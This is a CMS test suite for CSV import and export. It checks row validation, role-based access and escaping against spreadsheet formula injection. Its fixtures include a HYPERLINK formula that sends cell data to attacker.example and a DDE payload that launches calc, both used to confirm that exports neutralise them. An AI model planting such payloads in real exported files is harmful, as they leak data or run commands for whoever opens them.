/**
 * CSV import and export over real HTTP (a seeded CMS under `next start`, see helpers/cms-server.ts):
 * the whole file checked first, a report by line and column, all or nothing or only the good rows,
 * no duplicates on a second import, who may import and export (pledge contact details: admins
 * only), and no exported cell a spreadsheet would run as a formula (issue #15).
 */
import { readFileSync } from 'node:fs'
import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, inject, it } from 'vitest'
import { type Client, client, login } from './helpers/http.ts'
import { csvLine, requiredJobCells } from './helpers/listings.ts'
import { formBody, validSubmission, savedPledge } from './helpers/pledges.ts'

const cmsUrl = inject('cmsUrl')
const as: Partial<Record<'anonymous' | 'editor' | 'reviewer' | 'admin', Client>> = {}
const run = `${process.pid}${Date.now() % 100000}`

const exampleJobs = readFileSync('content/examples/jobs.csv', 'utf8')
const header = exampleJobs.split('\n')[0]!

/** A job row in the example's columns, with a unique slug and the given cells changed. */
function jobRow(slug: string, cells: Record<string, string> = {}): string {
  return csvLine(header.split(','), {
    slug,
    title: `CSV test job ${slug}`,
    title_es: `Empleo de prueba ${slug}`,
    summary: 'A job imported by the CSV tests.',
    summary_es: 'Un empleo importado por las pruebas de CSV.',
    duties: 'First duty | Second duty',
    ...requiredJobCells,
    ...cells,
  })
}

const csvFile = (...rows: string[]) => `${[header, ...rows].join('\n')}\n`

function importCsv(role: keyof typeof as, csv: string, fields: Record<string, string> = {}) {
  const form = new FormData()
  form.set('file', new Blob([csv], { type: 'text/csv' }), 'jobs.csv')
  form.set('collection', fields.collection ?? 'job-postings')
  for (const [k, v] of Object.entries(fields)) form.set(k, v)
  return as[role]!.rest('POST', '/api/csv-import', { form })
}

async function jobsWithSlugs(slugs: string[]) {
  const where = slugs.map((s, i) => `where[slug][in][${i}]=${s}`).join('&')
  const { json } = await as.admin!.rest('GET', `/api/job-postings?${where}&draft=true&depth=0&limit=50&locale=all`)
  return json.docs as Record<string, any>[]
}

async function download(role: keyof typeof as, collectionSlug: string, extra: Record<string, unknown> = {}) {
  const response = await fetch(`${cmsUrl}/api/exports/download`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', ...(role === 'anonymous' ? {} : { Authorization: (as as any)[`${role}Auth`] }) },
    body: JSON.stringify({ data: { collectionSlug, format: 'csv', ...extra } }),
  })
  const text = await response.text()
  const rows = response.status === 200 ? (parse(text, { bom: true, columns: true }) as Record<string, string>[]) : []
  return { status: response.status, text, rows, header: response.status === 200 ? (parse(text, { bom: true, to_line: 1 })[0] as string[]) : [] }
}

beforeAll(async () => {
  as.anonymous = client(cmsUrl)
  const adminToken = await login(cmsUrl, inject('adminEmail'), inject('adminPassword'))
  as.admin = client(cmsUrl, adminToken)
  ;(as as any).adminAuth = `JWT ${adminToken}`
  for (const role of ['editor', 'reviewer'] as const) {
    const email = `csv-${role}-${run}@portal.test`
    const made = await as.admin.rest('POST', '/api/users', { body: { email, password: 'a-long-test-password', roles: [role] } })
    expect(made.status).toBe(201)
    const token = await login(cmsUrl, email, 'a-long-test-password')
    as[role] = client(cmsUrl, token)
    ;(as as any)[`${role}Auth`] = `JWT ${token}`
  }
})

describe('CSV import', () => {
  const good1 = `csv-good-a-${run}`
  const good2 = `csv-good-b-${run}`
  const bad1 = `csv-bad-a-${run}`
  const bad2 = `csv-bad-b-${run}`
  // Lines: 1 header, 2 good, 3 bad (unknown employer and region), 4 good, 5 bad (pay, date, link).
  const mixed = csvFile(
    jobRow(good1),
    jobRow(bad1, { employer: 'No Such Clinic', location_region: 'Atlantis', workerTypes: 'community-health-worker; astronaut' }),
    jobRow(good2),
    jobRow(bad2, { pay_min: 'lots', postedDate: '01/04/2027', howToApply_url: 'example.org/apply' }),
  )

  it('reports each bad row by line and column, and imports nothing', async () => {
    const { status, json } = await importCsv('editor', mixed)
    expect(status).toBe(422)
    expect(json.saved).toBe(false)
    expect(json.badLines).toEqual([3, 5])
    expect(json.problems.map((p: any) => [p.line, p.column])).toEqual([
      [3, 'employer'],
      [3, 'workerTypes'],
      [3, 'location_region'],
      [5, 'pay_min'],
      [5, 'howToApply_url'],
      [5, 'postedDate'],
    ])
    const byColumn = Object.fromEntries(json.problems.map((p: any) => [`${p.line}:${p.column}`, p.message]))
    expect(byColumn['3:employer']).toMatch(/No organization called "No Such Clinic"/)
    expect(byColumn['3:workerTypes']).toMatch(/No worker type called "astronaut"/)
    expect(byColumn['3:location_region']).toMatch(/No region called "Atlantis"/)
    expect(byColumn['5:postedDate']).toMatch(/YYYY-MM-DD/)
    expect(json.rows.map((r: any) => [r.line, r.slug, r.action])).toEqual([
      [2, good1, 'create'],
      [4, good2, 'create'],
    ])
    expect(await jobsWithSlugs([good1, good2, bad1, bad2])).toEqual([])
  })

  it('reports in Spanish', async () => {
    const { json } = await importCsv('editor', mixed, { mode: 'check', lang: 'es' })
    expect(json.problems[0].message).toMatch(/No hay organización llamado "No Such Clinic"/)
  })

  it('checks without saving', async () => {
    const { status, json } = await importCsv('editor', mixed, { mode: 'check' })
    expect(status).toBe(200)
    expect(json.badLines).toEqual([3, 5])
    expect(await jobsWithSlugs([good1, good2])).toEqual([])
  })

  it('with "only the good rows", imports exactly those, as drafts', async () => {
    const { status, json } = await importCsv('editor', mixed, { mode: 'valid' })
    expect(status).toBe(200)
    expect(json).toMatchObject({ saved: true, created: 2, updated: 0, badLines: [3, 5] })
    const saved = await jobsWithSlugs([good1, good2, bad1, bad2])
    expect(saved.map((d) => d.slug).sort()).toEqual([good1, good2].sort())
    expect(saved.every((d) => d._status === 'draft')).toBe(true)
    const one = saved.find((d) => d.slug === good1)!
    expect(one.title).toEqual({ en: `CSV test job ${good1}`, es: `Empleo de prueba ${good1}` })
    expect(one.duties.map((d: any) => d.text.en)).toEqual(['First duty', 'Second duty'])
    // Drafts are not public.
    const publicView = await as.anonymous!.rest('GET', `/api/job-postings?where[slug][equals]=${good1}`)
    expect(publicView.json.docs).toEqual([])
  })

  it('importing the same rows again updates them instead of adding copies', async () => {
    const file = csvFile(jobRow(good1, { pay_min: '27' }), jobRow(good2))
    const { status, json } = await importCsv('editor', file, { mode: 'all' })
    expect(status).toBe(200)
    expect(json).toMatchObject({ saved: true, created: 0, updated: 2 })
    expect(json.rows.map((r: any) => r.action)).toEqual(['update', 'update'])
    const saved = await jobsWithSlugs([good1, good2])
    expect(saved).toHaveLength(2)
    expect(saved.find((d) => d.slug === good1)!.pay.min).toBe(27)
  })

  it('publishes when staff choose, and the public then sees the listing', async () => {
    const slug = `csv-published-${run}`
    const { status, json } = await importCsv('admin', csvFile(jobRow(slug)), { mode: 'all', status: 'published' })
    expect(json.problems).toEqual([])
    expect(status).toBe(200)
    expect(json.created).toBe(1)
    const publicView = await as.anonymous!.rest('GET', `/api/job-postings?where[slug][equals]=${slug}`)
    expect(publicView.json.docs).toHaveLength(1)
  })

  it('reports a repeated slug and a wrong header', async () => {
    const slug = `csv-twice-${run}`
    const twice = await importCsv('editor', csvFile(jobRow(slug), jobRow(slug)), { mode: 'check' })
    expect(twice.json.problems).toEqual([{ line: 3, column: 'slug', message: 'Same slug as line 2: each listing may appear only once in a file.' }])
    const wrongHeader = await importCsv('editor', `titel,employer\nA job,aliados-health\n`, { mode: 'check' })
    expect(wrongHeader.json.problems.map((p: any) => [p.line, p.column])).toContainEqual([1, 'titel'])
    expect(wrongHeader.json.problems.map((p: any) => p.column)).toContain('title')
  })

  it('imports the example training programs file', async () => {
    const { status, json } = await importCsv('editor', readFileSync('content/examples/trainings.csv', 'utf8'), {
      collection: 'training-programs',
      mode: 'all',
    })
    expect(status).toBe(200)
    expect(json.problems).toEqual([])
    expect(json.created + json.updated).toBe(1)
  })

  it("keeps a session's schedule, meeting days and times when the file gives the same dates again", async () => {
    const trainings = JSON.parse(readFileSync('content/training-programs.json', 'utf8')) as {
      slug: string
      sessions: { weekly?: unknown; schedule?: unknown }[]
    }[]
    const withTimes = trainings.find((t) => t.sessions.some((s) => s.weekly && s.schedule))!
    const { rows, header } = await download('editor', 'training-programs')
    const row = rows.find((r) => r.slug === withTimes.slug)!
    const read = async () =>
      (await as.admin!.rest('GET', `/api/training-programs?where[slug][equals]=${withTimes.slug}&draft=true&depth=0&locale=all`)).json.docs[0]
    const before = await read()
    const imported = await importCsv('editor', `${[header.join(','), csvLine(header, row)].join('\n')}\n`, { collection: 'training-programs', mode: 'all' })
    expect(imported.json.problems).toEqual([])
    expect(imported.json.updated).toBe(1)
    const after = await read()
    const details = (doc: { sessions: Record<string, unknown>[] }) =>
      doc.sessions.map(({ startDate, endDate, schedule, weeklyDays, weeklyStartTime, weeklyEndTime, timeZone, meetings }) => ({
        startDate,
        endDate,
        schedule,
        weeklyDays,
        weeklyStartTime,
        weeklyEndTime,
        timeZone,
        meetings,
      }))
    expect(details(after)).toEqual(details(before))
    expect(details(after).some((s) => (s.weeklyDays as string[]).length > 0)).toBe(true)
  })

  it('refuses anonymous visitors and reviewers', async () => {
    const file = csvFile(jobRow(`csv-refused-${run}`))
    expect((await importCsv('anonymous', file)).status).toBe(401)
    const reviewer = await importCsv('reviewer', file)
    expect(reviewer.status).toBe(403)
    expect(await jobsWithSlugs([`csv-refused-${run}`])).toEqual([])
  })
})

describe('CSV export', () => {
  it('exports job postings in the import columns, drafts included when asked', async () => {
    // The columns are the import's whatever fields are picked.
    const { status, rows, header: columns } = await download('editor', 'job-postings', { drafts: 'yes', fields: ['title'] })
    expect(status).toBe(200)
    expect(columns).toEqual(expect.arrayContaining(['slug', 'title', 'title_es', 'employer', 'workerTypes', 'location_region', 'pay_min', 'status']))
    const { json } = await as.admin!.rest('GET', '/api/job-postings?draft=true&limit=0&depth=0')
    expect(rows).toHaveLength(json.totalDocs)
    const imported = rows.find((r) => r.slug === `csv-good-a-${run}`)!
    expect(imported).toMatchObject({
      employer: 'example-bayview-health-system',
      location_region: 'sonoma-county',
      pay_min: '27',
      title_es: `Empleo de prueba csv-good-a-${run}`,
      status: 'draft',
    })
  })

  it('gives reviewers only published job postings, and nobody else anything', async () => {
    const reviewer = await download('reviewer', 'job-postings', { drafts: 'yes' })
    expect(reviewer.status).toBe(200)
    expect(reviewer.rows.every((r) => r.status === 'published')).toBe(true)
    expect((await download('anonymous', 'job-postings')).status).toBe(401)
  })

  it('exports pledges to staff, their contact details to admins only', async () => {
    const submission = validSubmission()
    const submitted = await as.anonymous!.rest('POST', '/api/pledges', { body: formBody(submission), headers: { 'X-Forwarded-For': `10.9.${run.length}.7` } })
    expect(submitted.status).toBe(201)
    expect(await savedPledge(as.admin!, submitted.json.reference)).toBeDefined()
    for (const role of ['editor', 'reviewer', 'admin'] as const) {
      const { status, rows, header: columns, text } = await download(role, 'pledges')
      expect(status).toBe(200)
      expect(columns).toEqual(expect.arrayContaining(['reference', 'status', 'organizationName', 'commitments']))
      expect(columns).not.toContain('reviewNote')
      expect(columns).not.toContain('idempotencyKey')
      const row = rows.find((r) => r.reference === submitted.json.reference)!
      expect(row).toMatchObject({
        status: 'pending',
        organizationName: submission.organization.name,
        organization_region: 'sonoma-county',
        commitments: 'hiring: no-degree-required, value-shared-life-experience; pay-and-benefits: fair-pay-scale',
      })
      const contact = ['contact_name', 'contact_title', 'contact_email', 'contact_phone']
      if (role === 'admin') {
        expect(columns).toEqual(expect.arrayContaining(contact))
        expect(row).toMatchObject({ contact_name: submission.contact.name, contact_email: submission.contact.email })
      } else {
        expect(columns.filter((c) => c.startsWith('contact'))).toEqual([])
        expect(text).not.toContain(submission.contact.email)
        expect(text).not.toContain(submission.contact.phone)
      }
    }
    const anonymous = await download('anonymous', 'pledges')
    expect(anonymous.status).toBe(401)
    expect(anonymous.text).not.toContain(submission.contact.email)
  })

  const hyperlink = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
  /** A cell a spreadsheet would run as a formula. */
  const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell)

  it('writes a pledge whose texts start like a formula with a leading apostrophe, and its counts as numbers', async () => {
    const submission = validSubmission({ signerName: '@Ana Signer' })
    submission.organization.name = hyperlink
    submission.contact.phone = '+1 707 555 0123'
    const submitted = await as.anonymous!.rest('POST', '/api/pledges', { body: formBody(submission), headers: { 'X-Forwarded-For': `10.9.${run.length}.8` } })
    expect(submitted.status).toBe(201)
    const { status, rows, text } = await download('admin', 'pledges', { where: { reference: { equals: submitted.json.reference } } })
    expect(status).toBe(200)
    expect(rows).toHaveLength(1)
    expect(rows[0]).toMatchObject({
      organizationName: `'${hyperlink}`,
      signerName: "'@Ana Signer",
      contact_phone: "'+1 707 555 0123",
      organization_chwCount: String(submission.organization.chwCount),
    })
    // The cell as a spreadsheet sees it: quoted, starting with the apostrophe.
    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""Open"")"`)
    expect(Object.values(rows[0]!).filter(runnable)).toEqual([])
  })

  it('exports a job posting whose texts start like a formula with a leading apostrophe, and imports the file back unchanged', async () => {
    const slug = `csv-formula-${run}`
    const created = await importCsv(
      'editor',
      csvFile(
        jobRow(slug, {
          title: hyperlink,
          title_es: '+cmd|" /C calc"!A0',
          summary: '-2+3 in a summary',
          duties: '@first duty | second duty',
          location_city: '=Santa Rosa',
        }),
      ),
      { mode: 'all' },
    )
    expect(created.json.problems).toEqual([])
    expect(created.json.created).toBe(1)
    const only = { drafts: 'yes', where: { slug: { equals: slug } } }
    const first = await download('editor', 'job-postings', only)
    expect(first.status).toBe(200)
    expect(first.rows).toHaveLength(1)
    expect(first.rows[0]).toMatchObject({
      title: `'${hyperlink}`,
      title_es: `'+cmd|" /C calc"!A0`,
      summary: "'-2+3 in a summary",
      duties: "'@first duty | second duty",
      location_city: "'=Santa Rosa",
      pay_min: '25',
    })
    expect(Object.values(first.rows[0]!).filter(runnable)).toEqual([])

    // The exported file, imported as it is, changes nothing: the CMS holds the original texts and
    // a second export is the first one (but for when it was saved).
    const again = await importCsv('editor', first.text, { mode: 'all' })
    expect(again.json.problems).toEqual([])
    expect(again.json).toMatchObject({ saved: true, created: 0, updated: 1 })
    const [saved] = await jobsWithSlugs([slug])
    expect(saved!.title).toEqual({ en: hyperlink, es: '+cmd|" /C calc"!A0' })
    expect(saved!.summary.en).toBe('-2+3 in a summary')
    expect(saved!.duties.map((d: any) => d.text.en)).toEqual(['@first duty', 'second duty'])
    expect(saved!.location.city).toBe('=Santa Rosa')
    const second = await download('editor', 'job-postings', only)
    const withoutTime = (rows: Record<string, string>[]) => rows.map(({ updatedAt: _, ...row }) => row)
    expect(withoutTime(second.rows)).toEqual(withoutTime(first.rows))
  })

  it('never stores an export, and the plugin’s own import is closed', async () => {
    const saved = await as.admin!.rest('POST', '/api/exports', { body: { collectionSlug: 'pledges', format: 'csv' } })
    expect(saved.status).toBe(403)
    for (const role of ['anonymous', 'editor', 'reviewer', 'admin'] as const) {
      expect((await as[role]!.rest('GET', '/api/imports')).status).toBe(403)
      expect((await as[role]!.rest('POST', '/api/imports/preview-data', { body: {} })).status).toBe(404)
    }
    expect((await as.anonymous!.rest('GET', '/api/exports')).status).toBe(403)
    for (const role of ['editor', 'reviewer', 'admin'] as const) {
      const listed = await as[role]!.rest('GET', '/api/exports')
      expect(listed.status).toBe(200)
      expect(listed.json.docs).toEqual([])
    }
  })
})

describe('the import page in the admin (Chromium)', () => {
  it('uploads a file and shows the report, in English and in Spanish', async () => {
    const { launchBrowser } = await import('./helpers/browser.ts')
    const browser = await launchBrowser()
    try {
      const token = (as as any).editorAuth.replace('JWT ', '') as string
      const url = new URL(cmsUrl)
      for (const [lng, heading, problem] of [
        ['en', 'Import listings from a CSV file', 'No organization called "No Such Clinic"'],
        ['es', 'Importar anuncios desde un archivo CSV', 'No hay organización llamado "No Such Clinic"'],
      ] as const) {
        const context = await browser.newContext()
        await context.addCookies([
          { name: 'payload-token', value: token, domain: url.hostname, path: '/' },
          { name: 'payload-lng', value: lng, domain: url.hostname, path: '/' },
        ])
        const page = await context.newPage()
        await page.goto(`${cmsUrl}/admin/csv-import`)
        await page.getByRole('heading', { level: 1, name: heading }).waitFor({ timeout: 60_000 })
        const file = csvFile(jobRow(`csv-ui-${lng}-${run}`), jobRow(`csv-ui-bad-${lng}-${run}`, { employer: 'No Such Clinic' }))
        await page.locator('input[type=file]').setInputFiles({ name: 'jobs.csv', mimeType: 'text/csv', buffer: Buffer.from(file) })
        await page.locator('button[type=submit]').click()
        const report = page.getByTestId('csv-report')
        await report.waitFor({ timeout: 30_000 })
        await expect.poll(() => report.textContent()).toContain(problem)
        const cells = await report.locator('table').first().locator('tbody tr').first().locator('td').allTextContents()
        expect(cells.slice(0, 2)).toEqual(['3', 'employer'])
        // The report takes focus, so keyboard and screen-reader users land on it.
        await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).toBe('H2')
        await context.close()
      }
      expect(await jobsWithSlugs([`csv-ui-en-${run}`, `csv-ui-es-${run}`])).toEqual([])
    } finally {
      await browser.close()
    }
  })

  it('exports pledges from the list menu: Export, then Download', async () => {
    const { launchBrowser } = await import('./helpers/browser.ts')
    const browser = await launchBrowser()
    try {
      const token = (as as any).reviewerAuth.replace('JWT ', '') as string
      const context = await browser.newContext({ acceptDownloads: true })
      await context.addCookies([{ name: 'payload-token', value: token, domain: new URL(cmsUrl).hostname, path: '/' }])
      const page = await context.newPage()
      await page.goto(`${cmsUrl}/admin/collections/pledges`)
      await page.getByRole('button', { name: 'More options' }).click({ timeout: 60_000 })
      await page.getByText('Export Pledges').click()
      const downloadButton = page.getByRole('button', { name: 'Download' })
      await downloadButton.waitFor({ timeout: 30_000 })
      const [download] = await Promise.all([page.waitForEvent('download'), downloadButton.click()])
      const csv = readFileSync((await download.path())!, 'utf8')
      const [columns] = parse(csv, { bom: true, to_line: 1 }) as string[][]
      expect(columns).toEqual(expect.arrayContaining(['reference', 'status', 'commitments']))
      // A reviewer's file has no contact details: only admins export those.
      expect(columns).not.toContain('contact_email')
      await context.close()
    } finally {
      await browser.close()
    }
  })
})
